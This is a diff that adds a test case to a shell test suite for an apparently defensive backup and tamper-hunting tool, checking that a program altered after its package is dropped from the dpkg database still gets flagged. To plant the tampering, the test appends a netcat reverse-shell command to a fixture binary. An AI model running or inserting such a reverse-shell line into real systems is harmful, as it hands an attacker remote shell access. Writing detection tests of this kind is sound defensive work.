@@ -231,6 +231,38 @@ assert v and v[0]["evidence"] == "sysd: 1.0-1 -> 1.0-2", F
 PY
 pass "a rewritten version is told by the unchanged changelog"
 
+# The package removed from the database while its program stays, changed: it
+# would look like a file nobody installed.
+S5=$P/deb5
+newtree "$S5"
+install "$S5" sysd 1.0-1
+rm -rf "$S5/var/cache/apt/archives"
+expect_exit 0 cr backup --source deb5 --time 2026-12-01 "$S5"
+python3 - "$S5/var/lib/dpkg/status" <<'PY'
+import sys
+p = sys.argv[1]
+stanzas = open(p).read().split("\n\n")
+open(p, "w").write("\n\n".join(s for s in stanzas if not s.startswith("Package: sysd\n")))
+PY
+rm -f "$S5"/var/lib/dpkg/info/sysd.*
+printf 'nc -e /bin/sh 203.0.113.9 4444\n' >>"$S5/usr/bin/sysd-tool"
+expect_exit 0 cr backup --source deb5 --time 2026-12-02 "$S5"
+expect_exit 0 cr backup --source deb5 --time 2026-12-03 "$S5"
+printf '# again\n' >>"$S5/usr/bin/sysd-tool"
+expect_exit 0 cr backup --source deb5 --time 2026-12-04 "$S5"
+expect_exit 0 cr hunt --source deb5
+expect_exit 0 cr findings --json --source deb5 --min-severity high
+python3 - "$CR_OUT" "$S5" <<'PY' || fail "a package removed from the database does not hide its changed program"
+import json, sys
+F = json.load(open(sys.argv[1]))["findings"]
+t = [f for f in F if f["path"] == sys.argv[2] + "/usr/bin/sysd-tool" and f["indicator"] == "package:modified"]
+assert len({f["snapshot"] for f in t}) == 3 and all(f["severity"] == "critical" for f in t), F
+# Judged again on day 4 (a second change, its new content), days after the package left
+# the database.
+assert len({f["content"] for f in t}) == 2, t
+PY
+pass "a package removed from the database"
+
 # --baseline: the operator knows day 5 of deb1 good (say, rebuilt): it is judged
 # alone, and day 6 against it; the mark is remembered by later hunts.
 expect_exit 0 cr hunt --source deb1 --baseline "$D5"
